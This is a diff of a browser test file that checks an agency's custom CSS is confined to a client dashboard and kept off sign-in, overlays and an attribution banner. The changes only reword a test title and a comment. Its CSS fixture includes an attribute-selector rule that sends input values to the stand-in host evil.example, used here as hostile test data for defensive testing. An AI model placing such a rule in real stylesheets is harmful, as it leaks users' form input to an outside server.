@@ -16,7 +16,7 @@ input[value^='a'] { background: url(//evil.example/a); }
 @media (min-width: 1px) { a { text-indent: 3px; } }
 `
 
-it('an agency’s own CSS dresses the dashboard, and neither sign-in nor layers over it: H-081', async () => {
+it('an agency’s own CSS styles the dashboard, but neither sign-in nor layers over it: H-081', async () => {
   const owner = await agentWith('eu')
   const client = await clientWith(owner, { pages: ['/convos', '/leads'], brand: { customCSS } })
   const { agencyId } = await client.stored()
@@ -70,7 +70,7 @@ it('an agency’s own CSS dresses the dashboard, and neither sign-in nor layers 
     })
   await expect.poll(() => styleOf('body')).toMatchObject({ textTransform: 'none', letterSpacing: 'normal' })
   await takePicture(page, 'client-own-css')
-  // Not where it stands whose content is shown: that must not be hidden.
+  // Not on the banner that names the content's author, which must stay visible.
   await page.getByRole('link', { name: 'Figures' }).click()
   await page.getByText('This content is from Harbour Desk').waitFor()
   await expect.poll(() => styleOf('nav a')).toMatchObject({ textTransform: 'none' })
